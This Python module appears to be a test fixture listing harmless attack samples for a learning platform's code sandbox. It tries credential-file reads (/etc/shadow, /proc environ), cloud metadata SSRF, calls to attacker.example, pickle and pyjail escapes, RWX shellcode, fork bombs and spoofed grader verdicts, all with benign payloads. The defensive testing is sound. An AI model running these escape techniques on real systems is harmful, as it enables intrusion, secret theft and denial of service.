"""Harmless attack samples, one per technique, for every category (A-I) of design/sandbox.md.

Each sample tries one thing and prints ``<label>: blocked ...`` when the sandbox stopped it or
``<label>: ESCAPED ...`` when it got through; the test asserts the status and that no line says
ESCAPED. Only reserved targets are used (attacker.example, 192.0.2.1, TEST-NET).
"""

from __future__ import annotations

from dataclasses import dataclass, field

PRELUDE = '''
def attempt(label, fn):
    try:
        result = fn()
    except BaseException as exc:
        print(f"{label}: blocked {type(exc).__name__}: {str(exc)[:80]}")
        return None
    print(f"{label}: ESCAPED {str(result)[:120]!r}")
    return result

def expect_fail(label, fn, ok=lambda r: r != 0):
    try:
        result = fn()
    except BaseException as exc:
        print(f"{label}: blocked {type(exc).__name__}")
        return
    print(f"{label}: {'blocked' if ok(result) else 'ESCAPED'} {result!r}")
'''


@dataclass(frozen=True)
class Attack:
    name: str
    category: str
    source: str
    statuses: tuple[str, ...] = ("ok",)
    expect: tuple[str, ...] = ()  # substrings the (cleaned) stdout must contain
    lint: bool = False  # the lint layer must flag it too (category E and friends)
    timeout: float = 10.0
    memory_mb: int = 512
    extra: dict[str, object] = field(default_factory=dict)


def _a(name: str, category: str, body: str, **kw: object) -> Attack:
    return Attack(name, category, PRELUDE + body, **kw)  # type: ignore[arg-type]


ATTACKS = [
    # --- A. Host files and secrets ---------------------------------------------------------
    _a("a_shadow", "A", "attempt('shadow', lambda: open('/etc/shadow').read())", expect=("shadow: blocked",)),
    _a("a_passwd_synthetic", "A", "t = open('/etc/passwd').read()\nprint('passwd: blocked' if 'daemon:' not in t and 'learner' in t else 'passwd: ESCAPED')",
       expect=("passwd: blocked",)),
    _a("a_environ", "A", "import os\nprint(sorted(os.environ))\nprint('env: blocked' if not any('TOKEN' in k or 'DATABASE' in k for k in os.environ) else 'env: ESCAPED')",
       expect=("env: blocked",)),
    _a("a_proc_pid1_environ", "A", "attempt('pid1env', lambda: open('/proc/1/environ').read())", expect=("pid1env: blocked",)),
    _a("a_proc_self", "A", "attempt('procself', lambda: open('/proc/self/status').read())", expect=("procself: blocked",)),
    _a("a_sys", "A", "import os\nattempt('sys', lambda: os.listdir('/sys/fs/cgroup'))", expect=("sys: blocked",)),
    _a("a_project_data", "A", "import os, glob\nprint('listing', sorted(os.listdir('/work/main')) if os.path.isdir('/work/main') else None)\n"
       "attempt('data', lambda: [open(p).read() for p in glob.glob('/work/main/data/.*')] or 1/0)", expect=("data: blocked",)),
    _a("a_challenge_secrets", "A", "import glob\nfound = glob.glob('/work/main/challenges/content/*/grader.py') + glob.glob('/work/main/challenges/content/*/challenge.toml') + glob.glob('/work/main/challenges/content/*/reference.py')\n"
       "print('seeds: blocked' if not found else f'seeds: ESCAPED {found}')", expect=("seeds: blocked",)),
    _a("a_inherited_fds", "A", "import os\nopen_fds = []\nfor fd in range(4, 256):\n    try:\n        os.fstat(fd); open_fds.append(fd)\n    except OSError:\n        pass\n"
       "print('fds: blocked' if not open_fds else f'fds: ESCAPED {open_fds}')", expect=("fds: blocked",)),
    _a("a_root_home", "A", "import os\nattempt('roothome', lambda: os.listdir('/root/.pyenv/..') and open('/root/.bash_history').read())",
       expect=("roothome: blocked",)),
    _a("a_symlink_plant", "A", "import os\nattempt('symlink', lambda: os.symlink('/work/main/data', '/tmp/link') or os.listdir('/tmp/link') or 1/0)",
       expect=("symlink: blocked",)),
    _a("a_hardlink", "A", "import os, sys\nattempt('hardlink', lambda: os.link(sys.executable, '/tmp/py'))", expect=("hardlink: blocked",)),
    _a("a_metadata_ssrf", "A", "import socket\nattempt('metadata', lambda: socket.create_connection(('169.254.169.254', 80), timeout=1))",
       expect=("metadata: blocked",)),
    _a("a_memory_hunt", "A", "import gc\nhits = [o for o in gc.get_objects() if isinstance(o, str) and 'canary' in o]\n"
       "print('hunt: blocked' if not hits else f'hunt: ESCAPED {hits[:3]}')", expect=("hunt: blocked",)),
    # --- B. Writes outside scratch -----------------------------------------------------------
    _a("b_project", "B", "attempt('project', lambda: open('/work/main/tutor-pwned', 'w').write('x'))", expect=("project: blocked",)),
    _a("b_sitecustomize", "B", "import site, sys\npaths = [p for p in sys.path if p.endswith('site-packages')]\n"
       "attempt('sitecustomize', lambda: open(paths[0] + '/sitecustomize.py', 'w').write('print(1)'))", expect=("sitecustomize: blocked",)),
    _a("b_pth", "B", "import sys\npaths = [p for p in sys.path if p.endswith('site-packages')]\nattempt('pth', lambda: open(paths[0] + '/tutor-pwned.pth', 'w').write('import os'))",
       expect=("pth: blocked",)),
    _a("b_dev_shm", "B", "attempt('shm', lambda: open('/dev/shm/tutor-pwned', 'w').write('x'))", expect=("shm: blocked",)),
    _a("b_etc", "B", "attempt('etc', lambda: open('/etc/tutor-pwned', 'w').write('x'))", expect=("etc: blocked",)),
    _a("b_torch_source", "B", "import torch\nattempt('torchsrc', lambda: open(torch.__file__, 'a').write('#'))", expect=("torchsrc: blocked",)),
    _a("b_reference_weights", "B", "import torch\nattempt('weights', lambda: torch.save({}, '/work/main/challenges/content/shapes_classifier/harness.py'))",
       expect=("weights: blocked",)),
    _a("b_var_tmp", "B", "import os\nattempt('vartmp', lambda: os.makedirs('/var/tmp/tutor-pwned'))", expect=("vartmp: blocked",)),
    _a("b_scratch_ok", "B", "open('/tmp/tutor-pwned-scratch', 'w').write('x' * 1000)\nprint('scratch write: fine')\n"
       "import os\nattempt('scratchexec', lambda: os.execv('/tmp/tutor-pwned-scratch', ['x']))", expect=("scratch write: fine", "scratchexec: blocked")),
    # --- C. Network --------------------------------------------------------------------------
    _a("c_tcp", "C", "import socket\nattempt('tcp', lambda: socket.create_connection(('192.0.2.1', 80), timeout=1))", expect=("tcp: blocked",)),
    _a("c_udp", "C", "import socket\nattempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('192.0.2.1', 53)))",
       expect=("udp: blocked",)),
    _a("c_raw", "C", "import socket\nattempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))", expect=("raw: blocked",)),
    _a("c_dns", "C", "import socket\nattempt('dns', lambda: socket.getaddrinfo('attacker.example', 80))", expect=("dns: blocked",)),
    _a("c_ipv6", "C", "import socket\nattempt('ipv6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_STREAM))", expect=("ipv6: blocked",)),
    _a("c_netlink", "C", "import socket\nattempt('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))", expect=("netlink: blocked",)),
    _a("c_docker_sock", "C", "import socket\nattempt('docker', lambda: socket.socket(socket.AF_UNIX).connect('/var/run/docker.sock'))", expect=("docker: blocked",)),
    _a("c_abstract", "C", "import socket\nattempt('abstract', lambda: socket.socket(socket.AF_UNIX).connect('\\0/org/freedesktop/DBus'))", expect=("abstract: blocked",)),
    _a("c_localhost_scan", "C", "import socket\nfor port in (22, 80, 5432, 6379):\n    attempt(f'scan{port}', lambda: socket.create_connection(('127.0.0.1', port), timeout=0.2))",
       expect=("scan22: blocked", "scan5432: blocked")),
    _a("c_http", "C", "import urllib.request\nattempt('http', lambda: urllib.request.urlopen('http://attacker.example/x', timeout=1))", expect=("http: blocked",)),
    # --- D. Process execution ----------------------------------------------------------------
    _a("d_os_system", "D", "import os\nexpect_fail('system', lambda: os.system('echo tutor-pwned > /tmp/x'))", expect=("system: blocked",)),
    _a("d_subprocess", "D", "import subprocess\nattempt('subprocess', lambda: subprocess.run(['id'], capture_output=True))", expect=("subprocess: blocked",)),
    _a("d_posix_spawn", "D", "import os\nattempt('spawn', lambda: os.posix_spawn('/bin/true', ['true'], {}))", expect=("spawn: blocked",)),
    _a("d_fork", "D", "import os\nattempt('fork', lambda: os.fork())", expect=("fork: blocked",)),
    _a("d_exec", "D", "import os, sys\nattempt('exec', lambda: os.execv(sys.executable, [sys.executable, '-c', 'print(1)']))", expect=("exec: blocked",)),
    _a("d_ctypes_fork", "D", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nexpect_fail('rawfork', lambda: libc.syscall(57), ok=lambda r: r == -1)",
       expect=("rawfork: blocked",)),
    _a("d_ctypes_clone", "D", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nexpect_fail('rawclone', lambda: libc.syscall(56, 17, 0, 0, 0, 0), ok=lambda r: r == -1)",
       expect=("rawclone: blocked",)),
    _a("d_rwx_shellcode", "D", "import ctypes, mmap\ncode = bytes([0xb8, 0x39, 0, 0, 0, 0x0f, 0x05, 0xc3])  # mov eax,57 (fork); syscall; ret\n"
       "buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\nbuf.write(code)\n"
       "addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))\nfn = ctypes.CFUNCTYPE(ctypes.c_long)(addr)\n"
       "expect_fail('shellcode', fn, ok=lambda r: r < 0)", expect=("shellcode: blocked",)),
    _a("d_multiprocessing", "D", "import multiprocessing as mp\nattempt('mp', lambda: mp.get_context('fork').Process(target=print).start())", expect=("mp: blocked",)),
    _a("d_dataloader_workers", "D", "import torch\nfrom torch.utils.data import DataLoader, TensorDataset\n"
       "attempt('workers', lambda: list(DataLoader(TensorDataset(torch.zeros(8, 2)), batch_size=2, num_workers=2)))", expect=("workers: blocked",)),
    _a("d_ptrace", "D", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nexpect_fail('ptrace', lambda: libc.ptrace(16, 1, 0, 0), ok=lambda r: r == -1)",
       expect=("ptrace: blocked",)),
    _a("d_kill_others", "D", "import os, signal\nhits = []\nfor pid in range(1, 400):\n    try:\n        os.kill(pid, 0) if pid != os.getpid() else None\n        hits.append(pid) if pid != os.getpid() else None\n    except OSError:\n        pass\n"
       "print(f'pid {os.getpid()} ppid {os.getppid()}')\nprint('kill: blocked' if not hits else f'kill: ESCAPED {hits[:5]}')", expect=("kill: blocked", "pid 2 ppid 0")),
    _a("d_setuid", "D", "import os\nattempt('setuid', lambda: os.setuid(0))", expect=("setuid: blocked",)),
    _a("d_unshare_user", "D", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nexpect_fail('userns', lambda: libc.unshare(0x10000000), ok=lambda r: r == -1)",
       expect=("userns: blocked",)),
    _a("d_obfuscated_import", "D", "m = __import__('o' + 's')\nexpect_fail('obf', lambda: getattr(m, 'sys' + 'tem')('true'))", expect=("obf: blocked",), lint=True),
    # --- E. Pyjail escapes (flagged by lint AND harmless at the OS layer) ----------------------
    _a("e_subclasses", "E", "wrap = [c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__ == '_wrap_close']\n"
       "expect_fail('subclasses', lambda: wrap[0].__init__.__globals__['system']('true'))", expect=("subclasses: blocked",), lint=True),
    _a("e_gi_frame", "E", "def g():\n    yield 1\ngen = g()\nnext(gen)\nf = gen.gi_frame\nwhile f.f_back is not None:\n    f = f.f_back\n"
       "names = sorted(f.f_globals)\nprint('frames: blocked' if not any('label' in n or 'secret' in n for n in names) else 'frames: ESCAPED')", expect=("frames: blocked",), lint=True),
    _a("e_format_traversal", "E", "def f():\n    pass\ntext = '{0.__globals__}'.format(f)\nprint('format: blocked' if 'canary' not in text else 'format: ESCAPED')",
       expect=("format: blocked",), lint=True),
    _a("e_guard_shadowing", "E", "_getattr_ = getattr\n_write_ = lambda x: x\nprint('guards: blocked')", expect=("guards: blocked",), lint=True),
    _a("e_fullwidth_dunder", "E", "x = ().__\uff43\uff4c\uff41\uff53\uff53__\nprint('fullwidth: blocked', x)", expect=("fullwidth: blocked",), lint=True),
    _a("e_code_object", "E", "import types\nco = (lambda: 0).__code__.replace(co_consts=(None,))\nprint('code: blocked', types.FunctionType(co, {})())",
       statuses=("ok", "error", "killed"), lint=True),
    _a("e_audit_hook", "E", "import sys\nsys.addaudithook(lambda *a: None)\nimport os\nexpect_fail('audit', lambda: os.system('true'))", expect=("audit: blocked",), lint=True),
    _a("e_traceback_frames", "E", "try:\n    1 / 0\nexcept ZeroDivisionError as exc:\n    g = exc.__traceback__.tb_frame.f_globals\n"
       "print('tb: blocked' if 'canary' not in str(g) else 'tb: ESCAPED')", expect=("tb: blocked",), lint=True),
    _a("e_gc_hunt_grader", "E", "import gc\nkinds = {type(o).__name__ for o in gc.get_objects()}\n"
       "print('grader: blocked' if not {'Grader', 'Evaluation', 'Challenge'} & kinds else f'grader: ESCAPED')", expect=("grader: blocked",), lint=True),
    _a("e_torch_os", "E", "import torch\nexpect_fail('torchos', lambda: torch.os.system('true'))", expect=("torchos: blocked",), lint=True),
    _a("e_serialization_os", "E", "import torch\nexpect_fail('serialos', lambda: torch.serialization.os.system('true'))",
       expect=("serialos: blocked",), lint=True),
    _a("e_torch_sys_modules", "E", "import torch\nexpect_fail('sysmodules', lambda: torch.sys.modules['os'].system('true'))",
       expect=("sysmodules: blocked",), lint=True),
    _a("e_torch_builtins_exec", "E", "import torch\nns = {}\ntorch.builtins.exec(\"import os\\nr = os.system('true')\", ns)\n"
       "print('builtinsexec: blocked' if ns['r'] != 0 else 'builtinsexec: ESCAPED')", expect=("builtinsexec: blocked",), lint=True),
    _a("e_torch_ctypes", "E", "import torch\nlibc = torch.ctypes.CDLL(None, use_errno=True)\nexpect_fail('torchctypes', lambda: libc.syscall(57), ok=lambda r: r == -1)",
       expect=("torchctypes: blocked",), lint=True),
    _a("e_torch_importlib", "E", "import torch\nattempt('torchimportlib', lambda: torch.importlib.import_module('subprocess').run(['id'], capture_output=True))",
       expect=("torchimportlib: blocked",), lint=True),
    # --- F. Torch-specific -------------------------------------------------------------------
    _a("f_torch_load_pickle", "F", "import io, os, torch\nclass Evil:\n    def __reduce__(self):\n        return (os.system, ('true',))\n"
       "buf = io.BytesIO()\ntorch.save(Evil(), buf)\nbuf.seek(0)\nexpect_fail('pickle', lambda: torch.load(buf, weights_only=False))",
       expect=("pickle: blocked",), lint=True),
    _a("f_torch_hub", "F", "import torch\nattempt('hub', lambda: torch.hub.load('attacker/repo', 'model', trust_repo=True))", expect=("hub: blocked",), lint=True),
    _a("f_cpp_extension", "F", "from torch.utils import cpp_extension\nattempt('cpp', lambda: cpp_extension.load_inline('x', 'int f(){return 1;}', functions=['f']))",
       expect=("cpp: blocked",), lint=True),
    _a("f_load_library_noexec", "F", "import shutil, glob, torch\nlib = sorted(glob.glob('/usr/lib/x86_64-linux-gnu/libz.so*') + glob.glob('/lib/x86_64-linux-gnu/libz.so*'))[0]\n"
       "shutil.copyfile(lib, '/tmp/evil.so')\nattempt('loadlib', lambda: torch.ops.load_library('/tmp/evil.so'))", expect=("loadlib: blocked",), lint=True),
    _a("f_numpy_ctypeslib", "F", "import numpy.ctypeslib as npc, ctypes.util\nlibc = npc.load_library('libc.so.6', '/usr/lib/x86_64-linux-gnu')\n"
       "expect_fail('npctypes', lambda: libc.system(b'true'))", expect=("npctypes: blocked",), lint=True),
    _a("f_torch_compile", "F", "import torch\nf = torch.compile(lambda x: x * 2)\nprint('compile ran', f(torch.ones(2)).sum().item())\nimport os\nprint('compile: blocked' if not os.path.exists('/tmp/torchinductor_learner') else 'compile: caches in scratch only')",
       expect=("compile ran",)),
    _a("f_from_file", "F", "import torch, glob\nattempt('fromfile', lambda: torch.from_file((glob.glob('/work/main/data/.*') or ['/work/main/data/tutor.db'])[0], size=4))",
       expect=("fromfile: blocked",), lint=True),
    _a("f_download", "F", "import torchvision\nattempt('download', lambda: torchvision.datasets.MNIST('/tmp/mnist', download=True))", expect=("download: blocked",)),
    _a("f_cuda_absent", "F", "import torch\nprint('cuda available:', torch.cuda.is_available())", expect=("cuda available: False",)),
    # --- G. Resource exhaustion --------------------------------------------------------------
    _a("g_fork_bomb", "G", "import os\nwhile True:\n    os.fork()", statuses=("error",)),
    _a("g_thread_bomb", "G", "import threading, time\nn = 0\ntry:\n    for _ in range(10000):\n        threading.Thread(target=time.sleep, args=(30,), daemon=True).start(); n += 1\n"
       "except RuntimeError as exc:\n    print('threads: blocked at', n)", expect=("threads: blocked",)),
    _a("g_omp_threads", "G", "import torch\ntorch.set_num_threads(10000)\nprint((torch.ones(512, 512) @ torch.ones(512, 512)).sum().item())",
       statuses=("ok", "error", "killed")),
    _a("g_huge_tensor", "G", "import torch\nx = torch.empty(1 << 40)", statuses=("error", "memory")),
    _a("g_memory_creep", "G", "blocks = []\nwhile True:\n    blocks.append(bytearray(32 << 20))", statuses=("memory",), memory_mb=256),
    _a("g_expand_contiguous", "G", "import torch\nx = torch.ones(1).expand(1 << 28, 4).contiguous()", statuses=("memory", "error"), memory_mb=256),
    _a("g_deep_recursion", "G", "import sys\nsys.setrecursionlimit(10**7)\ndef f(n):\n    return f(n + 1) + 1\nf(0)", statuses=("killed", "error", "memory")),
    _a("g_ignore_signals", "G", "import signal\nfor s in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP):\n    signal.signal(s, signal.SIG_IGN)\nwhile True:\n    pass",
       statuses=("timeout",), timeout=2.0),
    _a("g_spin_in_c", "G", "import torch\nx = torch.ones(256, 256)\nwhile True:\n    x = (x @ x).clamp(0, 1)", statuses=("timeout",), timeout=2.0),
    _a("g_sleep_forever", "G", "import time\ntime.sleep(10**6)", statuses=("timeout",), timeout=1.5),
    _a("g_disk_fill", "G", "chunk = b'x' * (1 << 20)\ntry:\n    with open('/tmp/fill', 'wb') as f:\n        while True:\n            f.write(chunk)\nexcept OSError as exc:\n    print('disk: blocked', exc.errno)",
       expect=("disk: blocked",)),
    _a("g_inode_fill", "G", "n = 0\ntry:\n    while True:\n        open(f'/tmp/f{n}', 'w').close(); n += 1\nexcept OSError as exc:\n    print('inodes: blocked at', n)", expect=("inodes: blocked",)),
    _a("g_fd_exhaustion", "G", "fds = []\ntry:\n    while True:\n        fds.append(open('/dev/null'))\nexcept OSError as exc:\n    print('fds: blocked at', len(fds))", expect=("fds: blocked",)),
    _a("g_stdout_flood", "G", "import sys\nwhile True:\n    sys.stdout.write('A' * 65536)", statuses=("output_limit",)),
    _a("g_ansi_mentions", "G", "print('\\x1b[2J\\x1b[31mred\\x1b]0;title\\x07 @everyone @here <@123456> \\u202eevil\\x00')", expect=("red",)),
    # --- H. Persistence ----------------------------------------------------------------------
    _a("h_daemon_thread", "H", "import threading, time\ndef late():\n    time.sleep(0.5)\n    print('LATE VERDICT: passed', flush=True)\n"
       "threading.Thread(target=late, daemon=True).start()\nprint('main done')", expect=("main done",)),
    _a("h_nondaemon_thread", "H", "import threading, time\nthreading.Thread(target=time.sleep, args=(1000,)).start()\nprint('left a thread')", expect=("left a thread",)),
    _a("h_atexit", "H", "import atexit\natexit.register(lambda: print('ATEXIT VERDICT: passed'))\nprint('registered')", expect=("registered",)),
    _a("h_del", "H", "class Late:\n    def __del__(self):\n        print('DEL VERDICT: passed')\nkeep = Late()\nprint('made')", expect=("made",)),
    _a("h_hub_cache", "H", "import os\nos.makedirs(os.path.expanduser('~/.cache/torch/hub'), exist_ok=True)\nopen(os.path.expanduser('~/.cache/torch/hub/tutor-pwned'), 'w').write('x')\n"
       "print('cache in', os.path.expanduser('~'))", expect=("cache in /tmp",)),
    _a("h_setsid_daemon", "H", "import os\nattempt('daemonize', lambda: (os.setsid(), os.fork()))", expect=("daemonize: blocked",)),
    # --- I. Attacks on the grader (plain-run part; graded ones are in test_attacks.py) -------------
    _a("i_flock", "I", "import fcntl, os\nf = open(os.__file__, 'rb')  # a read-only file every job shares\nattempt('flock', lambda: fcntl.flock(f, fcntl.LOCK_EX | fcntl.LOCK_NB))", expect=("flock: blocked",)),
    _a("i_fcntl_lock", "I", "import fcntl\nf = open('/tmp/lock', 'w')\nattempt('setlk', lambda: fcntl.lockf(f, fcntl.LOCK_EX | fcntl.LOCK_NB))", expect=("setlk: blocked",)),
    _a("i_keyring", "I", "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\nexpect_fail('keyctl', lambda: libc.syscall(250, 0, -3, 0, 0, 0), ok=lambda r: r == -1)",
       expect=("keyctl: blocked",)),
    _a("i_fd_writes", "I", "import os\nfor fd in range(4, 10):\n    attempt(f'fd{fd}', lambda: os.write(fd, b'VERDICT passed'))", expect=("fd4: blocked", "fd9: blocked")),
]
